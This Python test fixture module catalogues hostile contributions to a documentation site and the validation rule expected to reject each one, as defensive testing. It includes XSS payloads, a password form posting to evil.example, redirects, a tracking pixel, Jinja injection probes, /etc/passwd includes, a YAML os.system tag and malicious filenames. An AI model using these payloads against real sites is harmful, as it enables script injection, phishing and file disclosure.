"""Hostile contributions: what each is called, where it lies, its bytes, and the rule that refuses it.

`None` for the rule means that nothing refuses it: it is published, and must be inert. Each is laid on top of
fixtures/good. Those without a file here are made by code, because they are large or cannot live in Git everywhere.
"""

from __future__ import annotations

from collections.abc import Iterator
from typing import NamedTuple

HERE = "communities/customer-contact/hostile.md"


class Hostile(NamedTuple):
    """One hostile file."""

    name: str
    path: str
    data: bytes
    rule: str | None
    mode: str = "100644"


def contribution(body: str, facts: str = "", title: str = "A hostile fixture", identity: str = "hostile") -> bytes:
    """Return a news item with a body, and with facts besides those that it needs."""
    head = (
        f"id: {identity}\nkind: news\ntitle: {title}\nsummary: A fixture that means no good.\ndate: 2010-05-01\n"
        f"community: customer-contact\nauthor:\n  name: Example Attacker\n  role: partner\n{facts}"
    )
    return f"---\n{head}---\n{body}\n".encode()


TEXTS: tuple[tuple[str, str, str | None], ...] = (
    ("script-element", "<script>window.hostile = 1</script>", "unsafe-html"),
    ("event-handler", '<img src="images/none.png" alt="x" onerror="window.hostile = 1">', "unsafe-html"),
    ("body-handler", '<body onload="window.hostile = 1">', "unsafe-html"),
    ("details-handler", '<details open ontoggle="window.hostile = 1"><summary>x</summary></details>', "unsafe-html"),
    ("javascript-link", "[press](javascript:window.hostile=1)", "unsafe-html"),
    ("javascript-link-hidden", '<a href="java&#10;script:window.hostile=1">press</a>', "unsafe-html"),
    ("javascript-autolink", "<javascript:window.hostile=1>", "unsafe-html"),
    ("vbscript-link", "[press](VBScript:x)", "unsafe-html"),
    ("data-link", "[press](data:text/html;base64,PHNjcmlwdD48L3NjcmlwdD4=)", "unsafe-html"),
    ("data-image", "![A picture](data:image/svg+xml;base64,PHN2Zy8+)", "unsafe-html"),
    ("scheme-relative-link", "[press](//evil.example/)", "unsafe-html"),
    ("backslash-link", r"[press](<\\evil.example/>)", "broken-link"),
    ("backslash-link-by-hand", r'<a href="\\evil.example/">press</a>', "unsafe-html"),
    ("frame", '<iframe srcdoc="<script>parent.hostile = 1</script>"></iframe>', "unsafe-html"),
    ("object", '<object data="x.html"></object>', "unsafe-html"),
    ("form", '<form action="https://evil.example"><input name="password"><button>Go</button></form>', "unsafe-html"),
    ("meta-refresh", '<meta http-equiv="refresh" content="0;url=https://evil.example/">', "unsafe-html"),
    ("base", '<base href="https://evil.example/">', "unsafe-html"),
    ("style-element", "x <style>body { display: none }</style>", "unsafe-html"),
    ("style-attribute", '<p style="position: fixed; inset: 0">x</p>', "unsafe-html"),
    ("imitation-class", '<div class="md-header">Sign in again</div>', "unsafe-html"),
    ("clobbering-id", '<a id="__search"></a>', "unsafe-html"),
    ("svg", "<svg><a xlink:href='javascript:window.hostile=1'><text>x</text></a></svg>", "unsafe-html"),
    ("math", "<math><mtext><table><mglyph><style><img src onerror=window.hostile=1>", "unsafe-html"),
    ("noscript", '<noscript><p title="</noscript><img src=x onerror=window.hostile=1>">', "unsafe-html"),
    ("template", "<template><script>window.hostile = 1</script></template>", "unsafe-html"),
    ("comment", "<!-- hidden -->", "unsafe-html"),
    ("conditional-comment", "<!--[if IE]><script>window.hostile=1</script><![endif]-->", "unsafe-html"),
    ("processing-instruction", "<?php phpinfo() ?>", "unsafe-html"),
    ("cdata", "<![CDATA[ <script>window.hostile = 1</script> ]]>", "unsafe-html"),
    ("plaintext", "x <plaintext> y", "unsafe-html"),
    ("marked-section", "<![ more", None),
    ("jinja", "{{ config.items() }} {% include 'x' %} {# x #}", None),
    ("jinja-attack", "{{ ''.__class__.__mro__[1].__subclasses__() }}", None),
    ("snippet", '--8<-- "/etc/passwd"', None),
    ("snippet-block", "--8<--\n/etc/passwd\n--8<--", None),
    ("attribute-list", "Words{: onclick=window.hostile=1 }", None),
    ("wiki-link", "[[../../secret]]", None),
    ("macro", "::: practice_commons.failure", None),
    (
        "escaped-script",
        "`<script>window.hostile = 1</script>` and &lt;script&gt;window.hostile = 1&lt;/script&gt;",
        None,
    ),
    ("script-in-code", "```html\n<script>window.hostile = 1</script>\n```", None),
    ("script-in-heading", "## Costs `<script>window.hostile = 1</script>`", None),
    ("script-in-alternative", '![\\"><script>window.hostile = 1</script>](images/calls.png)', None),
    ("script-in-link-title", "[press](how-to-count.md '\"><script>window.hostile = 1</script>')", None),
    ("language-of-code", '```"><script>window.hostile=1</script>\nx\n```', "unsafe-html"),
    ("bidi-by-number", "The file report&#x202e;txt.exe", "hidden-character"),
    ("bidi", "The file report\u202etxt.exe", "bidi-control"),
    ("terminal-escape", "A title\x1b]0;hostile\x07", "control-character"),
    ("climbing-link", "[press](../../../../etc/passwd)", "broken-link"),
    ("climbing-link-encoded", "[press](%2e%2e/%2e%2e/%2e%2e/secret.md)", "broken-link"),
    ("site-link", "[press](/assets/javascripts/x.js)", "broken-link"),
    ("remote-image", "![A spy](https://evil.example/pixel.png)", "remote-image"),
)
"""Bodies that a page must survive."""

FACTS: tuple[tuple[str, str, str, str | None], ...] = (
    ("script-title", "", "<script>window.hostile = 1</script>", None),
    ("script-title-quoted", "", "'\"><img src=x onerror=window.hostile=1>'", None),
    ("jinja-title", "", "'{{ 7 * 7 }} {% raw %}'", None),
    ("workflow-title", "", "'::error file=x::y %0A::set-output name=x::y'", None),
    ("formula-title", "", "'=HYPERLINK(\"https://evil.example\")'", None),
    ("bidi-title-by-escape", "", '"report\\u202etxt.exe"', "bidi-control"),
    ("key-template", "template: x.html\n", "Hostile", "unknown-key"),
    ("key-icon", "icon: x\n", "Hostile", "unknown-key"),
    ("key-hide", "hide: 5\n", "Hostile", "unknown-key"),
    ("key-tags-text", "tags: x\n", "Hostile", "schema"),
    ("key-status", "search: {exclude: true}\n", "Hostile", "unknown-key"),
    ("javascript-in-facts", "link: javascript:window.hostile=1\n", "Hostile", "schema"),
    ("date-zero", "review_by: 0\n", "Hostile", "schema"),
    ("february-30", "review_by: 2010-02-30\n", "Hostile", "schema"),
    ("large-number", f"measures:\n  - {{name: x, unit: x, before: {'9' * 4300}}}\n", "Hostile", "schema"),
    ("sexagesimal", "responds_to: 190:20:30\n", "Hostile", "schema"),
    ("yaml-bomb", "a: &a [x, x]\nb: &b [*a, *a]\nc: [*b, *b]\n", "Hostile", "frontmatter-anchor"),
    ("yaml-python", "tags: !!python/object/apply:os.system ['true']\n", "Hostile", "frontmatter-tag"),
    ("yaml-deep", f"tags: {'[' * 500}x{']' * 500}\n", "Hostile", "frontmatter-too-deep"),
    ("yaml-deep-open", f"tags: {'[' * 5000}\n", "Hostile", "frontmatter-too-deep"),
    ("yaml-merge", "<<: {kind: event}\n", "Hostile", "unknown-key"),
    ("yaml-set", "? [a, b]\n: c\n", "Hostile", "frontmatter-syntax"),
    ("yaml-second-document", "--- x\n", "Hostile", "frontmatter-syntax"),
    ("many-keys", "".join(f"key{at}: x\n" for at in range(1500)), "Hostile", "unknown-key"),
    ("prototype", "__proto__: {x: y}\nconstructor: x\n", "Hostile", "unknown-key"),
)
"""Frontmatter that a page, and every other page's navigation, must survive."""

FILES: tuple[Hostile, ...] = (
    Hostile("html-file", "communities/customer-contact/page.html", b"<script>window.hostile = 1</script>", "file-type"),
    Hostile(
        "svg-file", "communities/customer-contact/images/x.svg", b"<svg onload='window.hostile = 1'/>", "file-type"
    ),
    Hostile(
        "theme-script",
        "communities/customer-contact/assets/javascripts/bundle.x.js",
        b"window.hostile = 1",
        "file-type",
    ),
    Hostile("config-file", "communities/customer-contact/mkdocs.yml", b"theme: x\n", "misplaced-file"),
    Hostile(
        "html-as-picture", "communities/customer-contact/images/x.png", b"<script>alert(1)</script>", "picture-content"
    ),
    Hostile(
        "svg-as-picture", "communities/customer-contact/images/x.gif", b"<svg onload='alert(1)'/>", "picture-content"
    ),
    Hostile("nested-contribution", "communities/customer-contact/deep/x.md", contribution("x"), "misplaced-file"),
    Hostile("index-page", "communities/customer-contact/index.md", contribution("I am the index now."), None),
    Hostile(
        "lfs-pointer",
        HERE,
        b"version https://git-lfs.github.com/spec/v1\noid sha256:0\nsize 1\n",
        "frontmatter-missing",
    ),
    Hostile("empty", HERE, b"", "frontmatter-missing"),
    Hostile("nul", HERE, contribution("a\0b"), "control-character"),
    Hostile("latin-1", HERE, contribution("£").decode().encode("latin-1"), "not-utf-8"),
    Hostile("utf-16", HERE, contribution("x").decode().encode("utf-16"), "not-utf-8"),
    Hostile("lone-surrogate", HERE, contribution("x") + b"\xed\xa0\x80", "not-utf-8"),
    Hostile("huge-file", HERE, contribution("word " * 110_000), "file-too-large"),
    Hostile("huge-frontmatter", HERE, contribution("x", f"review_by: {'x' * 20_000}\n"), "frontmatter-too-large"),
    Hostile("symbolic-link", "communities/customer-contact/link.md", b"/etc/passwd", "file-mode", "120000"),
    Hostile(
        "symbolic-link-picture", "communities/customer-contact/images/l.png", b"/etc/passwd", "file-mode", "120000"
    ),
    Hostile("executable", "communities/customer-contact/run.md", contribution("x"), "file-mode", "100755"),
    Hostile("repository", "communities/customer-contact/sub", b"", "file-mode", "160000"),
    Hostile("name-control", "communities/customer-contact/a\x1b[31m.md", contribution("x"), "file-name"),
    Hostile("name-line", "communities/customer-contact/a\n::error::b.md", contribution("x"), "file-name"),
    Hostile("name-bidi", "communities/customer-contact/a\u202edm.md", contribution("x"), "file-name"),
    Hostile("name-windows", "communities/customer-contact/aux.md", contribution("x"), "file-name"),
    Hostile("name-colon", "communities/customer-contact/a:b.md", contribution("x"), "file-name"),
    Hostile("name-dash", "communities/customer-contact/-rf.md", contribution("x"), "file-name"),
    Hostile("name-dot", "communities/customer-contact/.hidden.md", contribution("x"), "file-name"),
    Hostile("name-space", "communities/customer-contact/a .md", contribution("x"), "file-name"),
    Hostile("name-bytes", "communities/customer-contact/a\udcff.md", contribution("x"), "file-name"),
    Hostile("name-case", "communities/customer-contact/How-To-Count.md", contribution("x"), "path-collision"),
    Hostile("folder-case", "communities/Customer-Contact/x.md", contribution("x"), "path-collision"),
    Hostile("deep-path", "communities/" + "a/" * 300 + "x.md", contribution("x"), "file-name"),
)
"""Files that are hostile by what or where they are."""


def pathological() -> Iterator[tuple[str, str]]:
    """Iterate over names and bodies in the manner of cmark's own pathological tests, and of GitHub's extensions."""
    size = 10_000
    yield "nested-strong-emphasis", "*a **a " * size + "b" + " a** a*" * size
    yield "emphasis-closers", "a_ " * size
    yield "emphasis-openers", "_a " * size
    yield "link-closers", "a]" * size
    yield "link-openers", "[a" * size
    yield "mismatched-openers", "*a_ " * size
    yield "openers-closers-of-three", "a**b" + "c* " * size
    yield "links-and-emphasis", "[ a_" * size
    yield "full-stops", "." * (size * 50)
    yield "pattern-of-two", "[ (](" * size
    yield "images-and-links", "![[]()" * size
    yield "strong-of-three", "**x [a*b**c*](d)" * (size // 10)
    yield "nested-brackets", "[" * size + "a" + "]" * size
    yield "nested-quotes", "> " * size + "a"
    yield "nested-lists", "".join(f"{'  ' * depth}* a\n" for depth in range(500))
    yield "nested-list-one-line", "* " * size + "a"
    yield "backslashes", "\\" * (size * 4)
    yield "backticks", "".join(f"e{'`' * run}" for run in range(1, 700))
    yield "unclosed-links", "[a](<b" * size
    yield "unclosed-comments", "</" + "<!--" * size
    yield "unclosed-declarations", "<!A " * size
    yield "empty-definitions", "[a]: u\n" * size
    yield "references", "".join(f"[{at}]: u\n" for at in range(size)) + "[1] " * size
    yield "long-references", f"[a]: {'x' * 50_000}\n\n" + "[a] " * size
    yield "entities", "&lt" * size
    yield "huge-table", "|a" * 2_000 + "|\n" + "|-" * 2_000 + "|\n" + ("|b" * 2_000 + "|\n") * 20
    yield "short-table-rows", "|" * 1_000 + "\n" + "|-" * 1_000 + "\n" + "|\n" * 50_000
    yield "footnotes", "[^a] " * size + "\n\n[^a]: x"
    yield "many-footnotes", "".join(f"[^{at}] \n\n[^{at}]: x\n\n" for at in range(size))
    yield "strikethrough", "~a " * size + "~~b " * size
    yield "autolinks", "http://a.b/( " * size + "a@b.c " * size
    yield "headings", "# a\n" * size
    yield "task-lists", "- [ ] a\n" * size
    yield "alerts", "> [!NOTE]\n> a\n\n" * size
    yield "unclosed-elements", "<div>" * size
    yield "unclosed-headings", "<h2>\n" * (size * 5)
    yield "angle-brackets", "<h2>" + "<" * (size * 5) + "</h2>"
    yield "many-attributes", "<p " + " ".join(f"a{at}" for at in range(size)) + ">x</p>"
    yield "one-word", "x" * 500_000
    yield "long-sentence", "words " * 80_000
    yield "capitals", "ABC" * 100_000 + " AB" * 50_000
    yield "underscores", "_ " * 100_000
    yield "link-words", "[" * 100_000 + "here"


def table() -> Iterator[Hostile]:
    """Iterate over every hostile file but the pathological ones, which may be refused or published if it is quick."""
    for name, body, rule in TEXTS:
        yield Hostile(name, HERE, contribution(body), rule)
    for name, facts, title, rule in FACTS:
        yield Hostile(name, HERE, contribution("Words.", facts, title), rule)
    yield from FILES
